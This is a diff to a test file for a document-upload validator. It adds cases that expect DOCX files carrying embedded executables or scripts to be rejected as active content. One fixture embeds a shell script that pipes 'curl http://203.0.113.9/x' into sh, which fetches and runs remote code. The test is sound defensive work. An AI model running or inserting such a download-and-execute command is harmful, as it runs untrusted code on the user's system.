@@ -20,6 +20,7 @@ import {
   packagerObject,
   pdfStream,
   pdfWith,
+  peExecutable,
   pptRecord,
   realDocx,
   realPng,
@@ -902,9 +903,17 @@ describe('evidence uploads (佐证材料)', () => {
         parts: [
           {
             name: 'word/media/image2.jpeg',
-            content: Buffer.concat([Buffer.from('MZ\x90\x00\x03', 'latin1'), Buffer.alloc(300)]),
+            content: peExecutable(),
           },
         ],
+      }),
+      status: 422,
+      code: 'active-content',
+    },
+    {
+      name: 'a DOCX with a shell script inside',
+      build: docxWith({
+        parts: [{ name: 'customXml/item9.xml', content: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n' }],
       }),
       status: 422,
       code: 'active-content',
